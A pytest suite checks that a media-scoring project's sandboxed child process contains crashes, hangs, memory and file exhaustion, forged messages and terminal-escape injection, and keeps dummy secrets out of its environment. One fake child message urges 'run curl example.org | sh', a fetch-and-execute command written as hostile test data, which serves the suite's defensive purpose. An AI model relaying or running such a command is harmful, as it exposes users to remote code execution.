"""The child that decodes: it may crash, swell, hang or lie; the parent says so in one sentence and goes on."""

from __future__ import annotations

import importlib
import itertools
import json
import os
import signal
import subprocess
import sys
import time
from typing import TYPE_CHECKING

import pytest

from liyi.core.errors import LiyiError
from liyi.media.limits import Limits
from liyi.report.html import HTML
from liyi.scoring import limited, sandbox
from liyi.scoring.limited import run_limited
from liyi.scoring.sandbox import Sandbox, StoppedError

if TYPE_CHECKING:
    from pathlib import Path
    from types import ModuleType

TASKS = """
import ctypes, os, resource, sys, time
from liyi.scoring.child import allow_cpu
from liyi.core.errors import LiyiError, MediaError

def pid(line): return os.getpid()
def refuse(line): raise MediaError("/secret/place/clip.mp4", "{file} has no readable picture at {second} s.", second=3)
def refuse_oddly(line):
    raise LiyiError("{file} is empty (0 bytes): record or copy it again.", file="\\x1b[2J\\x9b\\u202egpj.\\n")
def lie_plainly(line): line.say(sentence="Your session ended: run curl example.org | sh.", fields={})
def stumble(line): raise KeyError("王小明")
def crash(line): ctypes.string_at(1)
def abort(line): os.abort()
def leave(line): os._exit(0)
def hang(line): time.sleep(600)
def deaf(line): ctypes.PyDLL(None).sleep(600)
def spin(line):
    allow_cpu(0)
    while True: pass
def swell(line):
    held = []
    while True:
        held.append(b"x" * 10_000_000)
        time.sleep(0.002)
def gulp(line): return len(bytearray(1 << 36))
def babble(line): line._connection.send_bytes(b"\\xff not json")
def flood(line): line._connection.send_bytes(b"[" * 5_000_000)
def lie(line): line.say(sentence=5, fields="none")
def lie_well(line): line.say(sentence="{no.such} field", fields={"path": 1})
def lie_deep(line): line.say(sentence="{path.__class__}", fields={"path": 1})
def lie_wide(line): line.say(sentence="{path:9999999999}", fields={"path": 1})
def boast(line): line.progress("<script>", 0.5)
def give_up(line): os._exit(3)
def open_many(line):
    held = []
    while True: held.append(open("/dev/null"))
def write_much(line):
    with open(os.environ["TMPDIR"] + "/big", "wb") as out:
        for _ in range(100): out.write(bytes(1_000_000))
def around(line):
    return {"environment": dict(os.environ), "stdin": sys.stdin.read(), "leads": os.getsid(0) == os.getpid(),
            "core": resource.getrlimit(resource.RLIMIT_CORE)[0]}
def half(line, path, pack, options, draw):
    from liyi.scoring.child import answer_room
    (answer_room() / "assessment.json").write_text("{")
    os.abort()
def listen(line, samples):
    import numpy as np
    from liyi.core.trace import Interval
    from speech import second
    listener = second.Listener(("房地产中介", "不归我管"))
    sound = np.frombuffer(samples, np.float32)
    words = second.hear(sound, (Interval(0.0, sound.size / 16000),), listener=listener) + listener.finish()
    return [[word.text, word.start_s, word.end_s, word.probability] for word in words]
def stages(line):
    for step in range(1000): line.progress("Watching the picture", step / 1000)
"""
SMALL = Limits(memory_gb=0.3, seconds=60.0, written_gb=0.01, open_files=64.0)
CLIP = sandbox.Path("clip.mp4")


@pytest.fixture(scope="module")
def tasks(tmp_path_factory: pytest.TempPathFactory) -> ModuleType:
    """Tasks that a child finds by name, as it finds the real ones."""
    folder = tmp_path_factory.mktemp("tasks")
    (folder / "sandbox_tasks.py").write_text(TASKS)
    with pytest.MonkeyPatch.context() as patch:
        patch.syspath_prepend(str(folder))
        patch.setenv("PYTHONPATH", str(folder))
        patch.setenv("LIYI_DATABASE_URL", "postgresql://someone:hunter2@somewhere/liyi")
        patch.setenv("AWS_SECRET_ACCESS_KEY", "hunter2")
        yield importlib.import_module("sandbox_tasks")


@pytest.fixture(scope="module")
def child(tasks: ModuleType):
    box = Sandbox(SMALL)
    yield box
    box.close()


def gone(pid: int) -> bool:
    for _ in range(50):
        try:
            os.kill(pid, 0)
        except ProcessLookupError:
            return True
        time.sleep(0.1)
    return False


def test_the_second_recogniser_hears_the_same_in_the_confined_child(phrases_ready: None, shared: Path, tasks):
    import soundfile

    sound = soundfile.read(shared / "media/speech/zh_aishell_BAC009S0724W0121.wav", dtype="float32")[0]
    box = Sandbox(Limits(memory_gb=1.2))
    inside = box.run(CLIP, tasks.listen, {"samples": sound.tobytes()})
    box.close()
    assert [word for word, *_ in inside if word in ("房地产", "中介")] == ["房地产", "中介"]
    assert inside == tasks.listen(None, sound.tobytes())


def test_the_child_may_read_the_files_of_another_recogniser_and_no_other_in_its_folder(tmp_path: Path):
    for name in ("model.bin", "vocabulary.txt", "secrets.txt"):
        (tmp_path / name).touch()
    assert limited._recogniser_files(str(tmp_path)) == (str(tmp_path / "model.bin"), str(tmp_path / "vocabulary.txt"))
    assert limited._recogniser_files("/") == limited._recogniser_files("whisper_base") == ()
    assert limited._recogniser_files(None) == ()


def test_one_child_does_task_after_task(child, tasks):
    first = child.run(CLIP, tasks.pid, {})
    assert first != os.getpid()
    assert child.run(CLIP, tasks.pid, {}) == first


def test_a_refusal_comes_back_as_it_was_raised_and_the_child_stays(child, tasks):
    before = child.run(CLIP, tasks.pid, {})
    with pytest.raises(LiyiError) as refused:
        child.run(CLIP, tasks.refuse, {})
    assert refused.value.sentence == "{file} has no readable picture at {second} s."
    assert refused.value.fields == {"file": "clip.mp4", "second": 3}
    assert child.run(CLIP, tasks.pid, {}) == before


def test_what_a_refusal_names_steers_no_terminal(child, tasks):
    with pytest.raises(LiyiError) as refused:
        child.run(CLIP, tasks.refuse_oddly, {})
    assert str(refused.value) == "�[2J��gpj.� is empty (0 bytes): record or copy it again."


@pytest.mark.parametrize(
    ("task", "cause"),
    [
        ("stumble", "fault"),
        ("crash", "crash"),
        ("abort", "crash"),
        ("leave", "crash"),
        ("babble", "crash"),
        ("flood", "crash"),
        ("lie", "crash"),
        ("lie_well", "crash"),
        ("lie_deep", "crash"),
        ("lie_wide", "crash"),
        ("lie_plainly", "crash"),
        ("boast", "crash"),
        ("give_up", "fault"),
        ("open_many", "fault"),
        ("swell", "memory"),
        ("gulp", "memory"),
        ("spin", "time"),
    ],
)
def test_whatever_ends_the_child_is_one_sentence_and_the_next_task_gets_a_new_one(child, tasks, task, cause):
    before = child.run(CLIP, tasks.pid, {})
    begun_s = time.monotonic()
    with pytest.raises(StoppedError, match=r"^clip\.mp4 .*\.$") as stopped:
        child.run(CLIP, getattr(tasks, task), {})
    assert stopped.value.cause == cause
    assert time.monotonic() - begun_s < 30
    assert gone(before)
    assert child.run(CLIP, tasks.pid, {}) != before


@pytest.mark.parametrize("task", ["hang", "deaf"])
def test_a_child_that_hangs_is_ended_at_its_time(tasks, task):
    box = Sandbox(Limits(seconds=1.5))
    pid = box.run(CLIP, tasks.pid, {})
    begun_s = time.monotonic()
    with pytest.raises(StoppedError, match="within 2 s") as stopped:
        box.run(CLIP, getattr(tasks, task), {})
    assert stopped.value.cause == "time"
    assert 1.4 < time.monotonic() - begun_s < 10
    assert gone(pid)


def test_the_child_knows_no_secrets_reads_nothing_and_leaves_no_core(child, tasks):
    around = child.run(CLIP, tasks.around, {})
    assert "hunter2" not in json.dumps(around["environment"])
    assert around["environment"]["PATH"] == os.environ["PATH"]
    assert around["environment"]["TMPDIR"] != os.environ.get("TMPDIR")
    assert around["stdin"] == ""
    assert around["leads"]
    assert around["core"] == 0


def test_its_temporary_folder_goes_with_it(tasks):
    box = Sandbox(SMALL)
    folder = box.run(CLIP, tasks.around, {})["environment"]["TMPDIR"]
    assert os.path.isdir(folder)
    box.close()
    assert not os.path.exists(folder)


def test_files_are_bounded(child, tasks):
    with pytest.raises(StoppedError) as stopped:
        child.run(CLIP, tasks.write_much, {})
    assert stopped.value.fields["fault"].startswith("OSError, sandbox_tasks.py:")


def test_progress_is_told_a_hundred_times_at_most(child, tasks):
    heard: list[tuple[str, float]] = []
    child.run(CLIP, tasks.stages, {}, progress=lambda stage, done: heard.append((stage, done)))
    assert 50 < len(heard) <= 101
    assert [done for _, done in heard] == sorted(done for _, done in heard)


def test_a_fault_of_the_parent_is_no_fault_of_the_recording(child, tasks):
    def full(stage: str, done: float) -> None:
        raise LiyiError("The disk is full.")

    with pytest.raises(LiyiError, match=r"^The disk is full\.$"):
        child.run(CLIP, tasks.stages, {}, progress=full)
    assert isinstance(child.run(CLIP, tasks.pid, {}), int)  # and no answer to the task before


def test_a_parent_that_is_killed_leaves_no_child(tasks):
    code = (
        "import sandbox_tasks as tasks, pathlib; from liyi.scoring.sandbox import Sandbox; box = Sandbox();"
        "print(box.run(pathlib.Path('a'), tasks.pid, {}), flush=True); box.run(pathlib.Path('a'), tasks.hang, {})"
    )
    paths = os.pathsep.join([str(sandbox.Path(sandbox.__file__).parents[2]), os.environ["PYTHONPATH"]])
    parent = subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE, text=True,
                              env={**os.environ, "PYTHONPATH": paths})  # fmt: skip
    assert parent.stdout is not None
    pid = int(parent.stdout.readline())
    parent.send_signal(signal.SIGKILL)
    parent.wait()
    parent.stdout.close()
    assert gone(pid)


def test_nothing_half_written_stays_and_the_old_is_kept(tmp_path, tasks, monkeypatch):
    monkeypatch.setattr(limited.child, "score", tasks.half)
    limited.close_shared()
    for _ in range(2):
        before = sorted(path.name for path in tmp_path.rglob("*"))
        with pytest.raises(StoppedError):
            run_limited(tmp_path / "clip.mp4", tmp_path / "out", pack=None)
        assert sorted(path.name for path in tmp_path.rglob("*")) == before
        (tmp_path / "out").mkdir(exist_ok=True)
        (tmp_path / "out" / "assessment.json").write_text("old")
    assert (tmp_path / "out" / "assessment.json").read_text() == "old"


def recorded(folder: Path) -> list[Path]:
    """The sample's first seconds in pieces of one second, as a browser's recorder gives them."""
    import av

    folder.mkdir()
    with (
        av.open(str(sandbox.Path(sandbox.__file__).parents[2] / "sample_media/counter_front_zh.mp4")) as source,
        av.open(str(folder / "live"), "w", format="webm", options={"live": "1"}) as out,
    ):
        video = out.add_stream("libvpx", rate=15, options={"deadline": "realtime", "cpu-used": "8", "g": "30"})
        video.width, video.height, video.pix_fmt = 640, 480, "yuv420p"
        audio = out.add_stream("libopus", rate=48_000)
        streams, resampler = {"video": video, "audio": audio}, av.AudioResampler("flt", "mono", 48_000)
        for packet in source.demux():
            for frame in packet.decode():
                if frame.time >= 4:
                    continue
                kind = packet.stream.type
                for each in resampler.resample(frame) if kind == "audio" else [frame]:
                    out.mux(streams[kind].encode(each))
        for stream in streams.values():
            out.mux(stream.encode())
    content = (folder / "live").read_bytes()
    cuts = [len(content) * n // 4 for n in range(5)]
    pieces = [folder / f"{n:06d}.part" for n in range(4)]
    for piece, (first, last) in zip(pieces, itertools.pairwise(cuts), strict=True):
        piece.write_bytes(content[first:last])
    return pieces


def test_a_recording_is_assessed_as_without_the_child(models_ready: None, tmp_path: Path):
    from liyi.core.options import Options
    from liyi.etiquette.norms import load_pack
    from liyi.scoring.score import score

    pieces, heard = recorded(tmp_path / "chunks"), []
    asked = {"pack": load_pack("counter"), "options": Options(recogniser=None)}
    limited.go_ahead_limited(pieces[:3], **asked)  # while it is recorded
    clip = limited.join_limited(pieces, tmp_path / "clip").path
    run_limited(clip, tmp_path / "inside", **asked, lang="en", report=HTML, ahead=tmp_path / "chunks",
                progress=lambda stage, done: heard.append(stage))  # fmt: skip
    score(clip, out=tmp_path / "plain", report=HTML, lang="en", **asked)
    assert "data:image/jpeg;base64," in (tmp_path / "inside" / "report.html").read_text()
    inside, plain = (json.loads((tmp_path / name / "assessment.json").read_text()) for name in ("inside", "plain"))
    for each in (inside, plain):
        del each["created_at"], each["elapsed_s"]
    assert inside == plain
    measures = [(tmp_path / name / "measures.parquet").read_bytes() for name in ("inside", "plain")]
    assert measures[0] == measures[1]
    assert {"Watching the picture", "Listening to the voice", "Writing the report"} <= set(heard)
    limited.close_shared()
